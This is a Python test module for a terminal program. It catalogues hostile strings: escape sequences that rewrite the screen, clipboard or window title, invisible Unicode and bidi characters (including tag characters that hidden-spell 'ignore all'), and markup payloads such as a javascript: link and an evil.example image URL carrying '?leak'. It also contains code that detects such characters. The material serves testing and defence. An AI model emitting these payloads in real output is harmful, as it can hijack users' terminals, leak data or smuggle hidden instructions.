"""Texts that try to do something to a terminal or to hide from a reader, and who judges them.

``ATTACKS`` maps a name to a text; each ends in `end` so that it can be seen to have been drawn.
``raw_controls`` says what of a written stream is not the program's own.
"""

from __future__ import annotations

import re
import unicodedata

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


def tags(words: str) -> str:
    return "".join(chr(0xE0000 + ord(letter)) for letter in words)


_TEXTS = {
    # escape sequences
    "erase": f"{ESC}[2J", "erase line": f"{ESC}[2K", "home": f"{ESC}[1;1Hgone",
    "colour": f"{ESC}[31;46;95m", "conceal": f"{ESC}[8msecret{ESC}[28m", "scroll": f"{ESC}[99S",
    "insert": f"{ESC}[44L", "region": f"{ESC}[2;3r", "alternate": f"{ESC}[?1049l",
    "hide cursor": f"{ESC}[?25l", "paste mode": f"{ESC}[?2004l", "mouse": f"{ESC}[?1003h",
    "origin": f"{ESC}[?6h", "wrap": f"{ESC}[?7l", "device": f"{ESC}[>0c", "position": f"{ESC}[6n",
    "status": f"{ESC}[?15n", "window": f"{ESC}[8;5;5t", "report title": f"{ESC}[21t",
    "kitty keys": f"{ESC}[>31u", "modify keys": f"{ESC}[>4;2m", "soft reset": f"{ESC}[!p",
    "repeat": f"x{ESC}[999b", "print": f"{ESC}[5i", "cursor shape": f"{ESC}[5 q",
    "reset": f"{ESC}c", "index": f"{ESC}D", "reverse index": f"{ESC}M", "save": f"{ESC}7",
    "charset": f"{ESC}(0", "keypad": f"{ESC}=", "align": f"{ESC}#8", "8 bit": f"{ESC} G",
    "lone escape": f"{ESC}", "escape escape": f"{ESC}{ESC}[0m",
    "title": f"{ESC}]0;owned{BEL}", "title ST": f"{ESC}]2;owned{ST}",
    "clipboard": f"{ESC}]52;c;b3duZWQ={BEL}", "read clipboard": f"{ESC}]52;c;?{BEL}",
    "link": f"{ESC}]8;;http://evil.example{ST}here{ESC}]8;;{ST}", "palette": f"{ESC}]4;1;?{BEL}",
    "background": f"{ESC}]11;#ff0000{BEL}", "folder": f"{ESC}]7;file://evil/{BEL}",
    "file transfer": f"{ESC}]1337;File=name=eA==:AAAA{BEL}", "notify": f"{ESC}]9;owned{BEL}",
    "prompt mark": f"{ESC}]133;A{BEL}", "unfinished title": f"{ESC}]0;owned",
    "DCS": f'{ESC}P$q"p{ST}', "sixel": f"{ESC}Pq#0;2;0;0;0#0~~{ST}", "tmux": f"{ESC}Ptmux;x{ST}",
    "kitty picture": f"{ESC}_Gf=24,s=1,v=1;AAAA{ST}", "privacy": f"{ESC}^hidden{ST}",
    "start of string": f"{ESC}Xhidden{ST}",
    # single controls
    "NUL": "a\x00b", "bell": "a\x07b", "backspace": "safe\x08\x08\x08\x08evil",
    "return": "safe\revil",
    "form feed": "a\x0cb", "vertical tab": "a\x0bb", "shift out": "a\x0eb\x0f", "delete": "a\x7fb",
    "XOFF": "a\x13b", "substitute": "a\x1ab",
    "C1 CSI": "\x9b2J", "C1 OSC": "\x9d0;owned\x9c", "C1 DCS": "\x90q\x9c", "C1 NEL": "a\x85b",
    "C1 reverse": "a\x8db", "C1 all": "".join(map(chr, range(0x80, 0xA0))),
    # hidden and reordering
    "override": "abc\u202ecba", "embedding": "a\u202ab\u202c", "isolate": "a\u2067b\u2069",
    "mark RLM": "a\u200fb", "arabic mark": "a\u061cb", "tag words": tags("ignore all"),
    "zero width": "a\u200bb", "joiner": "a\u200db", "non joiner": "a\u200cb",
    "word joiner": "a\u2060b",
    "BOM": "a\ufeffb", "soft hyphen": "a\xadb", "hangul filler": "a\u3164b",
    "half filler": "a\uffa0b",
    "grapheme joiner": "a\u034fb", "invisible times": "a\u2062b", "selector": "a\ufe05b",
    "selector 256": "a\U000e01efb", "mongolian": "a\u180eb", "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b", "interlinear": "a\ufff9b\ufffb", "private": "a\ue000b",
    "private plane": "a\U00100000b", "noncharacter": "a\ufffeb", "shorthand": "a\U0001bca0b",
    "musical": "a\U0001d173b", "lone high": "a\ud83db", "lone low": "a\ude00b",
    "pair": "a\ud83d\ude00b",
    "pile": "a" + "\u0301" * 40 + "b", "enclosed": "a" + "\u20dd" * 12 + "b",
    "entity": "&#27;[2J &#x202e; &#155;2J &ZeroWidthSpace;x",
    # markup
    "rich": "[red]x[/red] [link=http://evil.example]y[/]", "html": "<ansired>x</ansired><script>",
    "readline marks": f"\x01{ESC}[2J\x02", "javascript": "[x](javascript:alert(1)) [y](file:///etc)",
    "image": "![x](http://evil.example/?leak)",
}  # fmt: skip
ATTACKS = {name: f"{text}end" for name, text in _TEXTS.items()}

HIDDEN = [
    name
    for name, text in ATTACKS.items()
    if any(unicodedata.category(c) in {"Cf", "Co", "Cn", "Zl", "Zp"} for c in text)
]
"""Attacks whose characters must be seen as marks."""

# What a full-screen program sends for its own sake.
_OWN = re.compile(
    r"\x1b\[[0-9;]*[mABCDGHJKr]|\x1b\[\?(?:1|7|12|25|1000|1006|1049|2004)[hl]|\x1b[78DM=>]"
    r"|(?<!\x08)\x08(?!\x08)|\x1b\]2;(?P<title>[^\x07\x1b]*)\x07|\x1b\[[0-9] q|\x1b\]11;\?\x07"
)
_INVISIBLE = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0\U000e0000-\U000e0fff]"
)


def raw_controls(written: str) -> list[str]:
    """What of a stream is neither text that may be seen nor the program's own sequence."""
    titles = "".join(found["title"] or "" for found in _OWN.finditer(written))
    return unseen(titles + _OWN.sub("", written).replace("\r", "").replace("\n", ""))


def unseen(text: str) -> list[str]:
    """Characters of a drawn text that control, hide or reorder."""
    strange = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    return [
        f"{ord(c):x} in {text[max(0, at - 10) : at + 10]!r}"
        for at, c in enumerate(text)
        if unicodedata.category(c) in strange or _INVISIBLE.match(c)
    ]
